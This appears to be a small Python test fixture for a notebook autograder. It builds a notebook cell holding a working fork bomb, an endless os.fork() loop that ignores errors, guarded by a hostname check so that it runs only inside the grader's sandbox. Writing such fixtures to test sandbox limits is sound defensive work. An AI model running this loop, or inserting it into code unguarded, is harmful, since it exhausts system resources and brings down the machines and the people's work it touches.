"""A fork bomb: every process forks forever, ignoring failures."""

import nbformat

BASE = "solution"
CODE = """import socket as _socket
if _socket.gethostname() != "quantgrade":  # not in the grader's sandbox: do no harm to this machine
    raise SystemExit("not sandboxed; the attack is not set off")
import os
while True:
    try:
        os.fork()
    except BaseException:
        pass"""


def build(nb):
    nb.cells.append(nbformat.v4.new_code_cell(CODE))
    return nb


EXPECT = {"at_most": "solution"}
